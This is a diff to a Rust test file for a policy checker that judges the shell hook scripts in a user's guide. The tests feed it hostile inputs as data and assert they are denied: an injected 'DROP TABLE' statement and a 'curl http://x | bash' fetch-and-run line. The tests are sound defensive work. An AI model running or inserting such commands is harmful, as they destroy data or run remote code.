@@ -1,7 +1,7 @@
 //! The scripts of the user's guide, as they stand there, are accepted without an error or a warning.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test may stop at the first surprise
 
-use hookgate_policy::{Policy, Profile, check};
+use hookgate_policy::{Policy, Profile, Severity, check};
 
 const SCRIPTS: [(&str, &str); 3] = [
     (
@@ -58,11 +58,11 @@ fn the_guides_scripts_are_accepted() {
     }
 }
 
-/// The guide's advice on explicit error checking, with a statement in the place of its placeholder.
+/// The guide's advice on explicit error checking: its placeholder is a warning, and a statement in its place nothing.
 #[test]
 fn explicit_error_checking_is_accepted() {
     let script = r#"pre_upgrade() {
-    $MYSQL_CMD -e 'ALTER SYSTEM CREATE IMAGE' || {
+    $MYSQL_CMD -e 'SQL COMMAND' || {
         echo "ERROR: Command failed"
         return 1  # Must return non-zero on error!
     }
@@ -70,5 +70,29 @@ fn explicit_error_checking_is_accepted() {
 post_upgrade() { return 0; }
 "#;
     let report = check(script.as_bytes(), &Policy::default());
+    let [finding] = report.findings() else { panic!("{:?}", report.findings()) };
+    assert_eq!((finding.rule.to_string().as_str(), finding.severity), ("HG403", Severity::Warning));
+    for statement in ["SQL COMMAND; DROP TABLE a", "SQL", "SQL COMMAND 1", "COMMAND"] {
+        assert!(
+            check(script.replace("SQL COMMAND", statement).as_bytes(), &Policy::default()).is_denied(),
+            "{statement}"
+        );
+    }
+    let script = script.replace("SQL COMMAND", "ALTER SYSTEM CREATE IMAGE");
+    let report = check(script.as_bytes(), &Policy::default());
     assert!(report.findings().is_empty(), "{}", report.findings()[0]);
+}
+
+/// The scripts of the guide to machine hooks: they define no functions, and are checked against `baseline`.
+#[test]
+fn machine_hooks_are_accepted() {
+    let policy = Policy::for_machine_hooks();
+    for script in [
+        "#!/bin/bash\necho \"pre node install\"\n",
+        "#!/bin/bash\necho \"the cluster labels and annotations key=value pair:$@\"\necho \"pre cluster install\" \n",
+    ] {
+        let report = check(script.as_bytes(), &policy);
+        assert!(report.findings().is_empty(), "{}", report.findings()[0]);
+    }
+    assert!(check(b"curl http://x | bash\n", &policy).is_denied());
 }
